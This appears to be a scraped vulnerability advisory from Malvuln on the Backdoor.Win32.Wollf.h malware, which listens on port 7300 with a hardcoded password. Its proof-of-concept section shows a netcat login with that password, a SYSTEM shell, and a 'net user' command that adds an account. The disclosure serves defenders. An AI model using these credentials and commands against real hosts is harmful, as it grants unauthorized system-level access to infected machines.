Backdoor.Win32.Wollf.h / Hardcoded Cleartext Password

us malvuln (US) us
Risk: Low
Local: Yes
Remote: No

Discovery / credits: Malvuln - (c) 2021 Original source: Contact: Media: Threat: Backdoor.Win32.Wollf.h Vulnerability: Hardcoded Cleartext Password Description: The malware listens on TCP port 7300 and runs with SYSTEM integrity. Authentication is required for remote user access. However, the password "grish5800" is hardcoded within the executable. The malware is packed with UPX and exposes the cleartext credentials when decompressed. Type: PE32 MD5: 5494b78dcfaf16aa43b5dbd563dc5582 Vuln ID: MVID-2021-0405 Dropped files: asphelp.exeDisclosure: 11/21/2021 Exploit/PoC: nc64.exe x.x.x.x 7300 login: grish5800 Login succeed! "Wollf Remote Manager" v1.6 Code by wollf, [DESKTOP-2C3IQHO@C:\WINDOWS\system32]#DOS Microsoft Windows [Version 10.0.16299.309] (c) 2017 Microsoft Corporation. All rights reserved. C:\WINDOWS\system32>whoami whoami nt authority\system C:\WINDOWS\system32>net user MALVULN 666 /add net user MALVULN 666 /add The command completed successfully. Disclaimer: The information contained within this advisory is supplied "as-is" with no warranties or guarantees of fitness of use or otherwise. Permission is hereby granted for the redistribution of this advisory, provided that it is not altered except by reformatting it, and that due credit is given. Permission is explicitly given for insertion in vulnerability databases and similar, provided that due credit is given to the author. The author is not responsible for any misuse of the information contained herein and accepts no responsibility for any damage caused by the use or misuse of this information. The author prohibits any malicious use of security related information or exploits by the author or elsewhere. Do not attempt to download Malware samples. The author of this website takes no responsibility for any kind of damages occurring from improper Malware handling or the downloading of ANY Malware mentioned on this website or elsewhere. All content Copyright (c) (TM).

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) -required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2021,


Back to Top